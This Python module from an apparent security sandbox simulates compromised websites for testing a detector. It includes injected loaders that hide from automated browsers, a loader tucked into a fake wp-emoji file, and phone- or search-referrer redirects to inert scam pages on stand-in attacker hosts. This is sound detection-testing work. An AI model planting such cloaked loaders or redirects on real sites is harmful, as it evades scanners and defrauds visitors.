"""Pages that behave only for a person's browser, a phone, or a visitor from a search engine.

Modelled on real injected loaders: they test for automation (``navigator.webdriver``,
too few plugins or languages, a window without a frame, "HeadlessChrome" in the user
agent or in ``navigator.userAgentData``) and stay quiet if they find it; redirects
test for a phone (user agent, touch, a narrow coarse-pointer screen) or for a search
engine's referer, or both. Each family has several variants, each with its own test;
the tricky-clean pages test the same things for harmless reasons. Everything the
attacker hosts serve is synthetic and inert.
"""

from __future__ import annotations

from tocsin.sandbox.pages import Env, Reply, Result, _log, b64, behaviour, common_files, js, page

# ---------------------------------------------------------------------- automation tells

# What each variant checks before it loads its script; ``return`` means "a bot: stay quiet".
_TELLS = {
    "webdriver": "if(navigator.webdriver)return;",
    "plugins-languages": (
        "if(!navigator.plugins||navigator.plugins.length<2)return;"
        "if(!navigator.languages||navigator.languages.length<2)return;"
    ),
    "window": (
        "if(!window.outerWidth||!window.outerHeight)return;"
        "if(window.outerHeight-window.innerHeight<40)return;"
    ),
    "useragent": (
        "var u=navigator.userAgent;"
        "if(/HeadlessChrome|PhantomJS|Electron|puppeteer|playwright/i.test(u))return;"
        "if(u.indexOf('Chrome/')<0)return;"
    ),
    "uadata": (
        "var d=navigator.userAgentData;if(!d||!d.brands)return;"
        "if(d.brands.some(function(b){return /headless/i.test(b.brand)}))return;"
        "if(!d.brands.some(function(b){return b.brand==='Google Chrome'}))return;"
    ),
    "combo": (
        "var n=navigator;if(n.webdriver||/Headless/i.test(n.userAgent))return;"
        "if(n.plugins.length<2||n.languages.length<2)return;"
        "if(window.Notification&&Notification.permission==='denied')return;"
    ),
}


def _loader(env: Env, tell: str, src: str, *, delay: int = 0) -> str:
    """An inline loader: the tell, then a script element from ``src`` (base64)."""
    insert = (
        "var s=document.createElement('script');s.async=true;"
        f"s.src=atob('{b64(src)}');document.head.appendChild(s);"
    )
    if delay:
        insert = f"setTimeout(function(){{{insert}}},{delay});"
    return f"<script>(function(){{try{{{_TELLS[tell]}{insert}}}catch(e){{}}}})();</script>"


@behaviour("person-only-loader")
async def person_only_loader(env: Env) -> Result:
    """A loader that stays quiet for automated browsers; the tell is the site's first tag."""
    tell = env.site.tags[0]
    if env.path == "/wp-includes/js/wp-emoji-release.min.js":
        # The "useragent" variant hides its check in a first-party file, as Balada does.
        body = "/*! wp-emoji 6.4.3 */window._wpemojiSettings={};\n"
        if env.compromised:
            body += "(function(){try{" + _TELLS["useragent"]
            src = f"{env.atk('personcheck')}/lib/wp-{env.site.tags[1]}.js"
            body += (
                "var s=document.createElement('script');"
                f"s.src=atob('{b64(src)}');document.head.appendChild(s);}}catch(e){{}}}})();\n"
            )
        return js(body)
    if env.path != "/":
        return common_files(env)
    scripts = '<script src="/wp-includes/js/wp-emoji-release.min.js?ver=6.4.3"></script>'
    if env.compromised and tell != "useragent":
        host = "personcheck2" if tell in ("window", "combo") else "personcheck"
        src = f"{env.atk(host)}/lib/wp-{env.site.tags[1]}.js"
        scripts += _loader(env, tell, src, delay=1500 if tell == "combo" else 0)
    content = "<h2>Welcome</h2><p>Book a table online or call us.</p>"
    return page(env, content, scripts=scripts)


@behaviour("attacker-personcheck")
async def attacker_personcheck(env: Env) -> Result:
    if env.path.startswith("/lib/wp-"):
        _log(env, "person-loader")
        return js("window.__pc=1;document.documentElement.setAttribute('data-pc','1');")
    return None


@behaviour("attacker-personcheck2")
async def attacker_personcheck2(env: Env) -> Result:
    return await attacker_personcheck(env)


# ---------------------------------------------------------------------- devices, referers

_MOBILE = {
    # A phone by its user agent.
    "ua": "var m=/Android|iPhone|iPad|iPod|Mobile|Opera Mini/i.test(navigator.userAgent);",
    # A phone by touch.
    "touch": "var m=('ontouchstart' in window)&&navigator.maxTouchPoints>0;",
    # A phone by its screen: narrow, and a finger for a pointer.
    "viewport": (
        "var m=window.matchMedia('(max-width: 820px)').matches&&"
        "window.matchMedia('(pointer: coarse)').matches&&screen.width<900;"
    ),
}
_SEARCH = {
    # The usual TDS list, by regular expression on the whole referrer.
    "regex": "var r=/google\\.|bing\\.|yahoo\\.|yandex\\.|naver\\./i.test(document.referrer);",
    # By the referrer's host name, engine by engine.
    "host": (
        "var r=false;try{var h=new URL(document.referrer).hostname;"
        "r=['google','bing','yandex','naver','yahoo','duckduckgo'].some(function(e){"
        "return h===e+'.com'||h.indexOf('.'+e+'.')>=0||h.indexOf(e+'.')===0;});}catch(e){}"
    ),
}


def _redirect(condition: str, target: str, how: str, delay: int) -> str:
    go = {
        "replace": f"window.location.replace(atob('{b64(target)}'))",
        "href": f"window.location.href=atob('{b64(target)}')",
        "top": f"top.location=atob('{b64(target)}')",
    }[how]
    if delay:
        go = f"setTimeout(function(){{{go}}},{delay})"
    return f"<script>(function(){{{condition}{go};}})();</script>"


@behaviour("condition-redirect")
async def condition_redirect(env: Env) -> Result:
    """A redirect under a condition; tags: (mobile test or -, search test or -, attacker key)."""
    mobile, search, key = env.site.tags[:3]
    if env.path != "/":
        return common_files(env)
    head = ""
    if env.compromised:
        checks = ""
        needed = []
        if mobile != "-":
            checks += _MOBILE[mobile]
            needed.append("m")
        if search != "-":
            checks += _SEARCH[search]
            needed.append("r")
        checks += "if(!(" + "&&".join(needed) + "))return;"
        target = f"{env.atk(key)}/?c={env.site.id[-8:]}"
        how = ("replace", "href", "top")[len(env.site.id) % 3]
        head = _redirect(checks, target, how, 400 if search != "-" else 0)
    content = "<h2>Our services</h2><p>Call for an appointment. Parking behind the building.</p>"
    return page(env, content, head=head)


@behaviour("clean-condition-aware")
async def clean_condition_aware(env: Env) -> Result:
    """Harmless condition tests: a phone goes to the site's own /m/ page, a search visitor
    sees a greeting, a bot gets no chat widget. Nothing leaves the site."""
    if env.path == "/m/":
        return page(env, "<h2>Mobile</h2><p>Tap to call us.</p>", title="Mobile")
    if env.path == "/js/chat.js":
        return js("document.body.insertAdjacentHTML('beforeend','<div id=chat>Chat</div>');")
    if env.path != "/":
        return common_files(env)
    head = (
        "<script>(function(){"
        + _MOBILE["ua"]
        + "if(m&&location.pathname==='/')location.replace('/m/');"
        + _SEARCH["regex"]
        + "if(r)document.addEventListener('DOMContentLoaded',function(){"
        "var p=document.createElement('p');p.textContent='Welcome, search visitor!';"
        "document.body.prepend(p);});"
        "if(!navigator.webdriver&&navigator.plugins.length>1){var s=document.createElement("
        "'script');s.src='/js/chat.js';document.head.appendChild(s);}"
        "})();</script>"
    )
    content = "<h2>Opening hours</h2><p>Mon-Sat 8:00-18:00.</p>"
    return page(env, content, head=head)


def _landing(env: Env, title: str, text: str) -> Reply:
    _log(env, "landing")
    return Reply(
        f"<!doctype html><html><head><title>{title}</title></head><body><h1>{title}</h1>"
        f"<p>{text}</p><button>Continue</button></body></html>"
    )


@behaviour("attacker-mobileprize")
async def attacker_mobileprize(env: Env) -> Result:
    if env.path == "/":
        return _landing(env, "Your phone has won!", "Spin the wheel to claim your reward.")
    return None


@behaviour("attacker-searchdeal")
async def attacker_searchdeal(env: Env) -> Result:
    if env.path == "/":
        return _landing(env, "Exclusive deal", "90% off today only. Enter your card to reserve.")
    return None


@behaviour("attacker-androidreward")
async def attacker_androidreward(env: Env) -> Result:
    if env.path == "/":
        return _landing(env, "Android user reward", "Install the update to receive your gift.")
    return None
